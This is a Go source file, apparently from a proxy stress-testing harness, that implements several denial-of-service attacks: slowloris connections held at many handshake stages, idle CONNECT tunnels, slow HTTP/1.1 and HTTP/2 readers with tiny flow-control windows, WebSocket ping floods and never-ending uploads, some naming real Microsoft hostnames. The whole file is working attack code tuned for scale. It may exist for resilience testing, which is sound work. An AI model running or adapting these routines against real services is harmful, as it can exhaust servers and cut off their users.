package main

import (
	"bufio"
	"context"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const (
	crowd  = 9_600 // connections that are held; two clients may have 9,936 with 20,000 descriptors
	arrive = 1_000 // a second
	drip   = 5 * time.Second
)

// slowloris holds connections at every stage where the proxy waits, and says a
// byte more every five seconds.
func slowloris(ctx context.Context, a *attacker) {
	first := hello(farData)
	crowded(ctx, a, func(ctx context.Context, i int) (net.Conn, error) {
		switch i % 8 {
		case 0, 1:
			return a.raw(ctx, i, []byte("CONNECT outlook.office.com:443 HTTP/1.1\r\nX-Slow: "))
		case 2, 3:
			return a.raw(ctx, i, []byte(head(farData)))
		case 4, 5:
			return a.raw(ctx, i, append([]byte(head(farData)), first[:len(first)/2]...))
		}
		conn, err := a.way.tls(ctx, a.from(i), farData, "http/1.1")
		if err != nil {
			return nil, err
		}
		begun := "GET /1 HTTP/1.1\r\nHost: " + farData + "\r\nX-Slow: "
		if i%8 == 7 {
			begun = "POST /echo HTTP/1.1\r\nHost: " + farData + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\na="
		}
		_, err = io.WriteString(conn, begun)
		return conn, err
	})
}

// crowded keeps a crowd of connections that open makes.
func crowded(ctx context.Context, a *attacker, open func(context.Context, int) (net.Conn, error)) {
	var all sync.WaitGroup
	defer all.Wait()
	places := make(chan struct{}, crowd)
	paced(ctx, arrive, 16, func(ctx context.Context, i int) {
		select {
		case places <- struct{}{}:
		case <-ctx.Done():
			return
		}
		within, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		conn, err := open(within, i)
		if err != nil {
			<-places
			return
		}
		_ = conn.SetDeadline(time.Time{})
		all.Go(func() {
			defer func() { <-places }()
			defer until(ctx, conn)()
			for pause(ctx, drip); ctx.Err() == nil; pause(ctx, drip) {
				if _, err := conn.Write([]byte("x")); err != nil {
					return
				}
			}
		})
	})
}

// openTunnels holds tunnels on which something moves now and then.
func openTunnels(ctx context.Context, a *attacker) {
	first := hello(site)
	crowded(ctx, a, func(ctx context.Context, i int) (net.Conn, error) {
		conn, err := a.way.connect(ctx, a.from(i), site)
		if err == nil {
			_, err = conn.Write(first) // the origin's handshake waits for the rest
		}
		return conn, err
	})
}

// slowReaders ask for 10 MB each, a thousand a second, and read a byte a
// second: by HTTP/1.1, and by HTTP/2 with windows of next to nothing.
func slowReaders(ctx context.Context, a *attacker) {
	paced(ctx, 40, 400, func(ctx context.Context, i int) {
		alpn := []string{"http/1.1", "h2"}[i/2%2]
		conn, err := a.way.tls(ctx, a.from(i), farData, alpn)
		if err != nil {
			pause(ctx, second)
			return
		}
		defer until(ctx, conn)()
		if alpn == "h2" {
			f := newFrames(conn, farData, a.home)
			err = f.open(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			for id := uint32(1); id < 100 && err == nil; id += 2 {
				err = f.ask(id, "/10000000")
			}
		} else {
			_, err = io.WriteString(conn, "GET /10000000 HTTP/1.1\r\nHost: "+farData+"\r\nAuthorization: Bearer "+a.home+"\r\n\r\n")
		}
		for one := make([]byte, 1); err == nil; {
			pause(ctx, second)
			_, err = conn.Read(one)
		}
	})
}

// pingStorm opens WebSockets and sends pings as fast as they are taken.
func pingStorm(ctx context.Context, a *attacker) {
	pings := make([]byte, 0, 6_000)
	for range 1_000 {
		pings = append(pings, 0x89, 0x80, 0, 0, 0, 0) // RFC 6455, 5.5.2, masked
	}
	each(ctx, 16, func(ctx context.Context, i int) {
		const host = "h1-socket.sharepoint.com"
		conn, err := a.way.tls(ctx, a.from(i), host, "http/1.1")
		if err != nil {
			pause(ctx, second)
			return
		}
		defer until(ctx, conn)()
		answer := bufio.NewReader(conn)
		if err := upgrade(conn, answer, host, a.home); err != nil {
			return
		}
		go func() { _, _ = io.Copy(io.Discard, answer) }()
		for err == nil {
			_, err = conn.Write(pings)
		}
	})
}

// endlessUploads sends bodies that nobody looks into and that do not end.
func endlessUploads(ctx context.Context, a *attacker) {
	clients := []*http.Client{a.way.client(a.from(0), false, true), a.way.client(a.from(1), true, true)}
	each(ctx, 32, func(ctx context.Context, i int) {
		r, err := request(ctx, http.MethodPut, farData, "/1", a.home, endless{ctx})
		if err != nil {
			return
		}
		r.Header.Set("Content-Type", "application/octet-stream")
		if _, _, err := ask(clients[i%2], r); err != nil {
			pause(ctx, 100*time.Millisecond)
		}
	})
}

type endless struct{ ctx context.Context }

func (e endless) Read(p []byte) (int, error) { return min(len(p), len(block)), e.ctx.Err() }
